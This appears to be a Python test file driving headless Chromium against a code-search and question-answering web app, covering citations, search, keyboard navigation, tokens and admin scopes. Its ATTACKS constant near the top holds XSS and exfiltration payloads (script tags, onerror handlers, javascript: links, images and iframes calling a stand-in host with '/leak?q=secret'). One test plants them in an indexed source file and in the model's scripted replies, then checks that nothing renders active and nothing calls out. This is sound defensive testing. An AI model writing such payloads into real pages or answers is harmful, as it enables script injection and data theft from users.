"""The page in the browser, in headless Chromium: by mouse and by keys, wide and narrow; and what must not happen in it."""
import http.client
import re
import sys

from browser import Browser, programs
from lib import SOURCES, Told, big_sources, main, wait_for
from test_http import Server

ATTACKS = """Before <script>document.title = "owned"</script><img src=x onerror="document.title='owned'"> and
![pixel](http://192.0.2.1/leak?q=secret) and [click](javascript:document.title='owned') and <http://192.0.2.1/auto> and

<iframe src="http://192.0.2.1/"></iframe><style>* { display: none }</style><form action="http://192.0.2.1/"><input></form>

[ref]: http://192.0.2.1/ref
[ref] [1](http://192.0.2.1/cite) [99] [0] `[1]` still [1].
"""


class Page:
    """A server and a browser that looks at it, under a name of its own where a token shall be wanted."""

    def __init__(self, w, config="embed = no\n", host="127.0.0.1", server=None, **window):
        self.server = server or Server(w, config)
        self.url = f"http://{host}:{self.server.port}/"
        self.b = Browser(**window)

    def __enter__(self):
        self.b.open(self.url)
        return self.b

    def __exit__(self, *_):
        self.b.close()


def test_ask_and_follow_a_citation(w):
    w.run("index", cwd=w.repo())
    told = Told(w, "say The wait doubles\nsleep 600000\n")
    config = (w.home / "config").read_text()
    with Page(w, config) as b:
        b.type("[data-query]", "how long is the wait before a retry?")
        b.key("Enter")
        b.wait(".turn .markdown", "The wait")  # as it is written: the model is not through yet
        cited = b.wait(".citations li", "src/retry.py")
        assert cited and b.all(".turn footer") == []
        b.click(".asker button", "Stop")
        b.wait(".asker button.main", "Ask")
        policy = next(n for n, text in told.sources(1).items() if "src/retry.py" in text.splitlines()[0])
        told.script(f"say Each wait is **twice** the one before [{policy}].\n")
        b.type("[data-query]", "how long is the wait before a retry?")
        b.click(".asker button.main")
        b.wait(".turn:last-of-type footer", "generated")
        assert "twice" in b.text(b.wait(".turn:last-of-type strong")) and len(b.all(".turn")) == 2
        b.click(".turn:last-of-type .cite")
        b.wait(".source .bar")
        assert "RetryPolicy" in b.text(b.wait(".source code")) and b.run("return location.hash").startswith("#/source?")
        inside = b.run("const r = document.querySelector('.bar').getBoundingClientRect(); return r.top >= 0 && r.bottom <= innerHeight && r.height > 10")
        assert inside, "the cited lines are in sight"
        b.run("history.back()")
        b.wait(".turn:last-of-type footer", "generated")  # the conversation is still there
        told.script(f"say Again [{policy}].\n")
        b.type("[data-query]", "and with three attempts?")
        b.key("Enter")
        wait_for(lambda: len(b.all(".turn footer")) == 3, "the follow-up")
        said = [m["text"] for m in told.prompt(told.prompts())["messages"]]
        assert any("twice" in text for text in said), "a follow-up knows what was said"
        b.click(".turn:last-of-type .verdict button", "good")
        b.wait(".turn:last-of-type .quiet", "noted: good")
        assert w.json("status")["feedback"] == 1


def test_search_and_its_address(w):
    w.run("index", cwd=w.repo())
    with Page(w) as b:
        b.click("header nav a", "Search")
        b.type("[data-query]", "exponential backoff")
        b.key("Enter")
        b.wait(".results li:first-child", "src/retry.py")
        assert b.all(".results .hljs-keyword"), "code has colours"
        b.click("summary")
        b.type("[name=path]", "src/pool.py")
        b.type("[name=kind]", "method")
        b.run("document.querySelector('[data-query]').value = ''")
        b.type("[data-query]", "retries")
        b.click("form button.main")
        b.wait(".results li:first-child", "src/pool.py")
        address = b.run("return location.href")
        assert "path=src%2Fpool.py" in address and "kind=method" in address
        b.open("about:blank")
        b.open(address)  # handed on
        b.wait(".results li:first-child", "src/pool.py")
        assert b.run("return document.querySelector('[name=path]').value") == "src/pool.py"
        b.open(address.split("#")[0] + "#/search?query=%28&regex=1")
        b.wait(".trouble")
        b.open(address.split("#")[0] + "#/search?query=no_such_word_anywhere&lang=cobol")
        b.wait("main", "cobol")


def test_keys(w):
    w.run("index", cwd=w.repo())
    with Page(w) as b:
        b.wait("[data-query]")
        b.run("document.activeElement.blur()")
        b.key("?")
        b.wait("dialog[open]", "the next place")
        b.key("Escape")
        wait_for(lambda: not b.all("dialog[open]"), "the dialog to close")
        b.key("s")
        b.wait("[type=search]")
        b.run("document.activeElement.blur()")
        b.key("/")
        b.key("r")  # a letter, not a command
        b.type("[type=search]", "etry")
        b.key("Enter")
        b.wait(".results li")
        b.key("Escape")
        b.key("j")
        first = b.run("return document.activeElement.getAttribute('href')")
        b.key("j")
        second = b.run("return document.activeElement.getAttribute('href')")
        b.key("k")
        third = b.run("return document.activeElement.getAttribute('href')")
        assert first != second and third == first and first.startswith("#/source"), (first, second, third)
        b.key("Enter")
        b.wait(".source")
        b.click(".trail a", "courier")
        b.wait(".entries", "src/")
        b.click(".entries a", "src/")
        b.wait(".entries", "retry.py")
        b.key("Tab")
        assert b.run("return getComputedStyle(document.activeElement).outlineStyle") == "solid", "where the keyboard stands can be seen"


def test_nothing_in_it_acts_and_nothing_comes_from_elsewhere(w):
    """A model that says whatever an attack may want, over sources that hold the same."""
    w.run("index", cwd=w.repo("courier", {**SOURCES, "src/evil.py": f'def wait_evil():\n    """How long is the wait? {ATTACKS}"""\n'}))
    Told(w, "".join(f"say {line}\\n\n" for line in ATTACKS.splitlines()))
    page = Page(w, (w.home / "config").read_text())
    reply = http.client.HTTPConnection("127.0.0.1", page.server.port)
    reply.request("GET", "/")
    head = reply.getresponse()
    policy = head.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "*" not in policy and head.headers["cache-control"] == "no-cache"
    with page as b:
        b.wait("[data-query]")
        b.requested(), b.log()
        b.type("[data-query]", "how long is the evil wait?")
        b.key("Enter")
        b.wait(".turn footer")
        text = b.text(b.wait(".turn .markdown"))
        assert "still" in text and "javascript:" not in b.run("return document.body.innerHTML").replace(text, ""), text
        active = b.run("return [...document.querySelectorAll('main :is(script, img, iframe, style, form:not(.asker), object, embed, svg, [onerror], [onclick])')].map(e => e.outerHTML)")
        assert active == [], active
        links = b.run("return [...document.querySelectorAll('.turn a')].map(a => a.getAttribute('href'))")
        assert links and all(href.startswith("#/source?") for href in links), links
        assert b.run("return document.title") == "codeask"
        for view in ("search?query=evil", "source?repo=courier&path=src/evil.py&from=1&to=2"):
            b.open(f"{page.url}#/{view}")
            b.wait("main pre", "onerror")
            assert b.run("return document.querySelectorAll('main :is(script, img, iframe, style, [onerror])').length") == 0 and b.run("return document.title") == "codeask"
        asked = [u for u in b.requested() if not u.startswith(("data:", "chrome:"))]
        assert asked and all(u.startswith(page.url) for u in asked), asked
        assert b.log() == [], "nothing that the policy had to stop"


def sign_in(b, token):
    b.type("[name=token]", token)
    b.click(".sign-in button")


def test_a_token_lets_in_and_is_revoked(w):
    """People come under another name than this machine's own: they need a token, and see what they may read."""
    for name in ("courier", "vault"):
        w.run("index", cwd=w.repo(name))
    server = Server(w)
    w.run("token", "create", "root", "--scope", "read,admin")
    boss = w.run("token", "create", "boss", "--scope", "read,feedback,admin").stdout.strip()
    for repo in ("courier", "vault"):
        w.run("access", "grant", "boss", repo)
    with Page(w, host="codeask.test", server=server, hosts="MAP codeask.test 127.0.0.1") as b:
        b.wait(".sign-in", "A token is wanted")
        sign_in(b, "codeask_0")
        b.wait(".trouble", "not valid")
        b.run("document.querySelector('[name=token]').value = ''")
        sign_in(b, boss)
        b.click("header nav a", "People")
        b.type("form.small:has([name=expires]) [name=name]", "ada")
        b.click("form.small button", "Make a token")
        ada = re.search(r"codeask_\w+", b.text(b.wait(".made")))[0]
        b.wait("tr", "ada")
        b.type("[name=who]", "ada")
        b.type("[name=repository]", "courier")
        b.click("form.small button", "Grant")
        wait_for(lambda: w.json("access", "list")["access"] and "ada" in [r["who"] for r in w.json("access", "list")["access"]], "the grant")
        b.type("form.small:has([name=expires]) [name=name]", "ada")
        b.type("[name=scope]", "metrics")
        b.click("form.small button", "Make a token")
        b.wait(".trouble", "more than your own token")
        b.click("header button", "leave")
        b.wait(".sign-in")
        sign_in(b, ada)
        b.click("header nav a", "Repositories")
        b.wait("table", "courier")
        assert "vault" not in b.run("return document.body.innerText") and "People" not in b.run("return document.body.innerText")
        assert b.run("return localStorage.length") == 1 and "codeask_" not in b.run("return JSON.stringify(localStorage)")
        assert w.run("token", "revoke", "ada").returncode == 0
        b.open(b.run("return location.origin") + "/#/search?query=retry")
        b.wait(".trouble", "not valid")


def test_admin_over_the_network(w):
    """Only a token of that scope, only by POST, and no more than it is good for itself."""
    w.run("index", cwd=w.repo())
    server = Server(w)
    plain, boss = (w.run("token", "create", n, "--scope", s).stdout.strip() for n, s in (("ada", "read,feedback"), ("boss", "read,admin")))
    ask = lambda token, method, path, body=None: server.ask(method, path, body, {"Authorization": "Bearer " + token})[:2]  # noqa: E731
    for method in ("token.create", "token.revoke", "user.remove"):
        assert ask(plain, "POST", f"/v1/{method}", {"name": "ada"})[0] == 403, method
        assert ask(boss, "GET", f"/v1/{method}?name=ada")[0] == 405, method
    for method in ("token.list", "user.list", "access.list"):
        assert ask(plain, "POST", f"/v1/{method}", {})[0] == 403, method
    assert ask(boss, "POST", "/v1/access.grant", {"who": "boss", "repository": "courier"})[0] == 404, "what he may not read he cannot give"
    assert ask(boss, "POST", "/v1/token.create", {"name": "x", "scope": "metrics"})[0] == 403
    assert ask(plain, "POST", "/v1/self", {}) == (200, {"user": "ada", "owner": False, "access": ["read", "feedback"]})
    for method in ("stop", "index", "repo.add", "repo.remove", "backup", "restore", "model.use"):
        assert ask(boss, "POST", f"/v1/{method}", {})[0] == 404, method
    made = ask(boss, "POST", "/v1/token.create", {"name": "eve"})
    assert made[0] == 200 and ask(made[1]["token"], "POST", "/v1/self", {})[1]["user"] == "eve"


def test_no_view_is_wider_than_its_window(w):
    long = "src/" + "a_very_long_folder_name_without_any_break/" * 4 + "x.py"
    text = "def " + "long_name_" * 30 + "():\n    return '" + "x" * 400 + "'\n"
    w.run("index", cwd=w.repo("courier", {**SOURCES, **big_sources(40), long: text}))
    server = Server(w)
    for window in ({"width": 360, "height": 740, "dark": True}, {"width": 1280, "height": 800}):
        page = Page(w, server=server, **window)
        with page as b:
            for view, css in (("ask?query=how long is the wait?", ".turn footer"), ("search?query=long_name retry", ".results li"), ("repositories", "table"),
                              ("people", "form.small"), (f"source?repo=courier&path={long}&from=1&to=2", ".source"), ("source?repo=courier", ".entries")):
                b.open("about:blank")
                b.open(f"{page.url}#/{view.replace(' ', '%20')}")
                b.wait(css)
                over = b.run("return document.documentElement.scrollWidth - innerWidth")
                assert over <= 0, (window, view, over)
            assert not [row for row in b.log() if row["level"] == "SEVERE"]


if __name__ == "__main__":
    if not all(programs()):
        print("no browser: the packages chromium and chromium-driver are wanted")
        sys.exit(77)
    main(globals())
